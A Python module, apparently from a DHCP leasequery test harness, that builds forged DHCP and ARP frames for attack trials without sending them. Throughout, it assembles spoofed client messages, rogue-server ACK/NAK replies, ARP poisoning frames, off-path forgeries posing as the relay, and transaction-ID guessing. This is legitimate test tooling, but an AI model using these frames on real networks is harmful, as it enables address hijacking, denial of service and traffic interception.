"""Forged DHCP and ARP, as frames: what each attack of `lq.scenarios.trials` puts on the wire.

Nothing here sends anything. UDP checksums are left out (RFC 768), so that a transaction identifier can be
changed in a frame that is made.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from ipaddress import IPv4Address

from lq.wire import (
    BOOTREPLY,
    CLIENT_PORT,
    SERVER_PORT,
    Message,
    MessageType,
    OptionCode,
    frames,
)
from lq.wire.frames import Endpoint
from lq.wire.options import pack_u32

XID_AT = 14 + 20 + 8 + 4  # where a message's transaction identifier stands in an untagged frame
_UDP_CHECKSUM_AT = 14 + 20 + 6
_LEASE_TIME = 3600
_ASKED = bytes((51, 58, 59, 61, 82, 91))  # what a leasequery of ours asks for
_NOWHERE, _ANY_PORT = IPv4Address(0), 1067
_ETHERNET = 1


@dataclass(frozen=True)
class Identity:
    """A host as DHCP knows it: its address, hardware address, client identifier, and option 82."""

    address: IPv4Address
    chaddr: bytes
    client_id: bytes
    relay_info: bytes


@dataclass(frozen=True)
class Place:
    """Where an attacker sends from: its own address, its interface's and the next hop's hardware address."""

    address: IPv4Address
    mac: bytes
    next_hop: bytes


@dataclass(frozen=True)
class World:
    """What every attacker knows: the relay and the servers; `accomplice` is where traffic is to go."""

    giaddr: IPv4Address
    servers: tuple[IPv4Address, ...]
    accomplice: Identity
    known_type: int
    active_type: int


# -- messages


def request(of: Identity, **changes: object) -> Message:
    """Return a REQUEST for the address that a client says it has (RFC 2131, 4.3.2: INIT-REBOOT)."""
    return of_client(MessageType.REQUEST, of, {OptionCode.REQUESTED_ADDRESS: of.address.packed}, **changes)


def of_client(kind: int, of: Identity, options: dict[int, bytes] | None = None, **changes: object) -> Message:
    """Return a message of a client's; `changes` are fields of it."""
    message = Message(
        htype=_ETHERNET,
        chaddr=of.chaddr,
        options={OptionCode.MESSAGE_TYPE: bytes((kind,)), **(options or {})},
    )
    if of.client_id:
        message.options[OptionCode.CLIENT_IDENTIFIER] = of.client_id
    return replace(message, **changes)  # type: ignore[arg-type]


def relayed(message: Message, giaddr: IPv4Address, relay_info: bytes) -> Message:
    """Return a client's message as the relay would pass it on."""
    options = {**message.options, OptionCode.RELAY_AGENT_INFORMATION: relay_info}
    return replace(message, giaddr=giaddr, hops=1, options=options)


def acknowledgement(of: Identity, to: Identity, giaddr: IPv4Address, server: IPv4Address) -> Message:
    """Return the ACK by which `to`'s circuit and hardware address get the address of `of`."""
    options: dict[int, bytes] = {
        OptionCode.MESSAGE_TYPE: bytes((MessageType.ACK,)),
        OptionCode.SERVER_IDENTIFIER: server.packed,
        OptionCode.LEASE_TIME: pack_u32(_LEASE_TIME),
        OptionCode.RELAY_AGENT_INFORMATION: to.relay_info,
    }
    return Message(BOOTREPLY, _ETHERNET, yiaddr=of.address, giaddr=giaddr, chaddr=to.chaddr, options=options)


def answer(kind: int, of: Identity, to: Identity | None, giaddr: IPv4Address, server: IPv4Address) -> Message:
    """Return an answer to a query about the address of `of`: it is at `to`'s place, or (None) not leased."""
    options: dict[int, bytes] = {
        OptionCode.MESSAGE_TYPE: bytes((kind,)),
        OptionCode.SERVER_IDENTIFIER: server.packed,
        OptionCode.CLIENT_LAST_TRANSACTION_TIME: pack_u32(0),
    }
    if to is not None:
        options[OptionCode.LEASE_TIME] = pack_u32(_LEASE_TIME)
        options[OptionCode.RELAY_AGENT_INFORMATION] = to.relay_info
    chaddr = of.chaddr if to is None else to.chaddr
    return Message(BOOTREPLY, _ETHERNET, ciaddr=of.address, giaddr=giaddr, chaddr=chaddr, options=options)


def leasequery(giaddr: IPv4Address, address: IPv4Address = _NOWHERE, chaddr: bytes = b"") -> Message:
    """Return a query about an address, or a hardware address."""
    options: dict[int, bytes] = {
        OptionCode.MESSAGE_TYPE: bytes((MessageType.LEASEQUERY,)),
        OptionCode.PARAMETER_REQUEST_LIST: _ASKED,
    }
    return Message(
        htype=_ETHERNET if chaddr else 0, ciaddr=address, giaddr=giaddr, chaddr=chaddr, options=options
    )


# -- frames


def datagram(message: Message, source: Endpoint, destination: Endpoint, mac: bytes, next_hop: bytes) -> bytes:
    """Return a message in a frame, without UDP checksum."""
    packet = frames.udp_packet(source, destination, message.encode())
    frame = bytearray(frames.ethernet(next_hop, mac, (), frames.ETHERTYPE_IPV4, packet))
    frame[_UDP_CHECKSUM_AT : _UDP_CHECKSUM_AT + 2] = b"\0\0"
    return bytes(frame)


class Subscriber:
    """Forges what a subscriber can send; `made` has a method's result by the attack's name."""

    def __init__(self, world: World, place: Place) -> None:
        self._world, self._place = world, place

    def frames(self, attack: str, victim: Identity) -> list[bytes]:
        """Return an attack's frames, in order."""
        world, own = self._world, self._world.accomplice
        giaddr, option_82 = world.giaddr, own.relay_info
        asked = request(victim)
        lease = of_client(MessageType.RELEASE, victim, ciaddr=victim.address)
        declined = of_client(
            MessageType.DECLINE, victim, {OptionCode.REQUESTED_ADDRESS: victim.address.packed}
        )
        informed = of_client(MessageType.INFORM, victim, ciaddr=victim.address)
        renewal = of_client(MessageType.REQUEST, victim, ciaddr=victim.address)
        make: dict[str, Callable[[], list[bytes]]] = {
            "request": lambda: self._unicast(relayed(asked, giaddr, option_82)),
            "renewal": lambda: self._unicast(relayed(renewal, _NOWHERE, option_82)),
            "release": lambda: self._unicast(lease, relayed(lease, giaddr, option_82)),
            "decline": lambda: self._unicast(relayed(declined, giaddr, option_82)),
            "inform": lambda: self._unicast(
                relayed(informed, giaddr, option_82), relayed(informed, _NOWHERE, option_82)
            ),
            "leasequery": lambda: self._unicast(leasequery(self._place.address, address=victim.address)),
            "leasequery-mac": lambda: self._unicast(leasequery(self._place.address, chaddr=victim.chaddr)),
            "clone": lambda: self._broadcast(
                of_client(MessageType.DISCOVER, victim), asked, *self._selecting(asked)
            ),
            "clone-inform": lambda: self._broadcast(informed),
            "clone-release": lambda: self._broadcast(lease),
            "clone-decline": lambda: self._broadcast(declined),
            "relayed": lambda: self._broadcast(
                replace(asked, giaddr=giaddr),
                relayed(asked, _NOWHERE, option_82),
                relayed(asked, giaddr, option_82),
            ),
            "rogue-server": lambda: self._as_a_server(victim),
            "arp": lambda: self._arp(victim),
        }
        return make[attack]()

    def accomplice_request(self, xid: int) -> bytes:
        """Return a REQUEST of the attacker's own, whose answer an accomplice on the path forges.

        It names a server that is not there, so that the others keep silent (RFC 2131, 4.3.2).
        """
        asked = request(self._world.accomplice, xid=xid)
        options = {**asked.options, OptionCode.SERVER_IDENTIFIER: self._world.giaddr.packed}
        [frame] = self._broadcast(replace(asked, options=options))
        return frame

    def _selecting(self, asked: Message) -> list[Message]:
        """Return it as the answer to an OFFER, for each server."""
        return [
            replace(asked, options={**asked.options, OptionCode.SERVER_IDENTIFIER: server.packed})
            for server in self._world.servers
        ]

    def _unicast(self, *messages: Message) -> list[bytes]:
        place = self._place
        return [
            datagram(message, (place.address, CLIENT_PORT), (server, SERVER_PORT), place.mac, place.next_hop)
            for message in messages
            for server in self._world.servers
        ]

    def _broadcast(self, *messages: Message) -> list[bytes]:
        return [
            datagram(
                message,
                (_NOWHERE, CLIENT_PORT),
                (frames.BROADCAST, SERVER_PORT),
                message.chaddr,  # a cloned hardware address is the frame's own, too
                frames.BROADCAST_MAC,
            )
            for message in messages
        ]

    def _as_a_server(self, victim: Identity) -> list[bytes]:
        """Forge replies from the access side: to the victim, by broadcast, and to the relay."""
        world, place, made = self._world, self._place, []
        for server in world.servers:
            ack = acknowledgement(victim, world.accomplice, world.giaddr, server)
            nak = replace(ack, yiaddr=_NOWHERE, chaddr=victim.chaddr)
            nak.options = {**ack.options, OptionCode.MESSAGE_TYPE: bytes((MessageType.NAK,))}
            for message in (ack, nak):
                for port in (SERVER_PORT, _ANY_PORT):
                    to_clients = (frames.BROADCAST, CLIENT_PORT)
                    to_relay = (world.giaddr, SERVER_PORT)
                    made += [
                        datagram(message, (server, port), to_clients, place.mac, frames.BROADCAST_MAC),
                        datagram(message, (server, port), to_relay, place.mac, place.next_hop),
                        datagram(message, (place.address, port), to_relay, place.mac, place.next_hop),
                    ]
        return made

    def _arp(self, victim: Identity) -> list[bytes]:
        """Claim the victim's address: a reply to the gateway, and an announcement."""
        mac, giaddr = self._place.mac, self._world.giaddr
        asked = frames.Arp(True, self._place.next_hop, giaddr, victim.address)
        return [
            frames.arp_reply(asked, mac, ()),
            frames.arp_request(mac, victim.address, victim.address, ()),
            frames.arp_request(mac, victim.address, giaddr, ()),
        ]


class OffPath:
    """Forges what a host of the Internet can send."""

    def __init__(self, world: World, place: Place) -> None:
        self._world, self._place = world, place

    def frames(self, attack: str, victim: Identity) -> list[bytes]:
        """Return an attack's frames, in order; of one that guesses, one to change the identifier in."""
        world, own, relay = self._world, self._place.address, self._world.giaddr
        accomplice = world.accomplice
        lease = of_client(MessageType.RELEASE, victim, ciaddr=victim.address)
        asked, here = relayed(request(victim), relay, accomplice.relay_info), accomplice.relay_info
        declined = relayed(
            of_client(MessageType.DECLINE, victim, {OptionCode.REQUESTED_ADDRESS: victim.address.packed}),
            relay,
            here,
        )
        informed = relayed(of_client(MessageType.INFORM, victim, ciaddr=victim.address), relay, here)
        make: dict[str, Callable[[], list[bytes]]] = {
            "ack": lambda: self._to_relay(lambda server: acknowledgement(victim, accomplice, relay, server)),
            "nak": lambda: self._to_relay(lambda server: self._denial(victim, server)),
            "active": lambda: self._to_relay(
                lambda server: answer(world.active_type, victim, accomplice, relay, server)
            ),
            "ack-own": lambda: [
                self._frame(
                    acknowledgement(victim, accomplice, relay, own), (own, SERVER_PORT), (relay, SERVER_PORT)
                )
            ],
            "request": lambda: self._to_servers(own, asked),
            "request-as-relay": lambda: self._to_servers(relay, asked),
            "release": lambda: self._to_servers(own, relayed(lease, relay, here), lease),
            "release-as-relay": lambda: self._to_servers(relay, relayed(lease, relay, here)),
            "release-as-victim": lambda: self._to_servers(victim.address, lease, port=CLIENT_PORT),
            "decline": lambda: self._to_servers(own, declined),
            "decline-as-relay": lambda: self._to_servers(relay, declined),
            "inform-as-relay": lambda: self._to_servers(relay, informed),
            "leasequery": lambda: self._to_servers(own, leasequery(own, address=victim.address)),
            "leasequery-mac": lambda: self._to_servers(own, leasequery(own, chaddr=victim.chaddr)),
        }
        return make[attack]()

    def _denial(self, victim: Identity, server: IPv4Address) -> Message:
        denial = acknowledgement(victim, victim, self._world.giaddr, server)
        denial.options[OptionCode.MESSAGE_TYPE] = bytes((MessageType.NAK,))
        return replace(denial, yiaddr=_NOWHERE)

    def _to_relay(self, make: Callable[[IPv4Address], Message]) -> list[bytes]:
        """Send as the first server does; with two, one of them is enough to be believed."""
        server = self._world.servers[0]
        return [self._frame(make(server), (server, SERVER_PORT), (self._world.giaddr, SERVER_PORT))]

    def _to_servers(self, source: IPv4Address, *messages: Message, port: int = SERVER_PORT) -> list[bytes]:
        return [
            self._frame(message, (source, port), (server, SERVER_PORT))
            for message in messages
            for server in self._world.servers
        ]

    def _frame(self, message: Message, source: Endpoint, destination: Endpoint) -> bytes:
        return datagram(message, source, destination, self._place.mac, self._place.next_hop)


def on_path(world: World, place: Place, attack: str, victim: Identity) -> list[tuple[IPv4Address, bytes]]:
    """Return for each server the frame by which somebody on the path answers in its place, at once."""
    made = []
    for server in world.servers:
        if attack == "ack":
            message = acknowledgement(victim, world.accomplice, world.giaddr, server)
        elif attack == "active":
            message = answer(world.active_type, victim, world.accomplice, world.giaddr, server)
        else:
            message = answer(world.known_type, victim, None, world.giaddr, server)
        there = (world.giaddr, SERVER_PORT)
        made.append((server, datagram(message, (server, SERVER_PORT), there, place.mac, place.next_hop)))
    return made


def guesses(frame: bytes, identifiers: Sequence[int]) -> list[bytes]:
    """Return a frame once with each transaction identifier."""
    head, tail = frame[:XID_AT], frame[XID_AT + 4 :]
    return [head + number.to_bytes(4, "big") + tail for number in identifiers]
